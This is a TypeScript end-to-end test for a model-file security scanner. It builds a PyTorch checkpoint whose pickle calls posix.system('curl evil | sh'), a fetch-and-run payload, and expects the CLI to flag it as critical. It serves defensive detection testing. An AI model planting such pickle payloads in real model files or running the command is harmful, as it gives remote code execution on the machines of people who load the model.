import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pk } from '@modelgate/plugin-kit/testing';
import { storedZip } from './zip-builder.js';

const root = new URL('../../../', import.meta.url).pathname;
const bin = join(root, 'apps/cli/dist/bin.js');

describe('end to end: the real CLI on a malicious PyTorch zip checkpoint', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'modelgate-pickle-'));
    const dataPkl = pk().proto(2).global('collections', 'OrderedDict').emptyTuple().reduce().str('w').call('posix', 'system', (b) => b.str('curl evil | sh')).setitem().stop().build();
    writeFileSync(
      join(dir, 'pytorch_model.bin'),
      storedZip({ 'my_model/data.pkl': dataPkl, 'my_model/version': Buffer.from('3\n'), 'my_model/data/0': new Uint8Array(64) }),
    );
    writeFileSync(join(dir, 'clean.pkl'), pk().proto(2).emptyDict().str('lr').binfloat(0.1).setitem().stop().build());
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('reports the critical call with the member path and exits 1', () => {
    expect(existsSync(bin), 'run `pnpm build` at the repository root first').toBe(true);
    const result = spawnSync(process.execPath, [bin, 'scan', dir, '--format', 'json'], { encoding: 'utf8', timeout: 60_000 });
    expect(result.status, result.stderr).toBe(1);
    const report = JSON.parse(result.stdout);
    const finding = report.findings.find((f: { ruleId: string }) => f.ruleId === 'pickle/dangerous-global');
    expect(finding).toMatchObject({
      severity: 'critical',
      location: { path: 'pytorch_model.bin', member: 'my_model/data.pkl' },
      evidence: { call: "posix.system('curl evil | sh')", stream: 0 },
    });
    expect(report.findings.filter((f: { location: { path: string } }) => f.location.path === 'clean.pkl')).toEqual([]);
    expect(report.inventory.pickle).toEqual(expect.arrayContaining([expect.objectContaining({ module: 'collections', name: 'OrderedDict', verdict: 'allow' })]));
  });
});
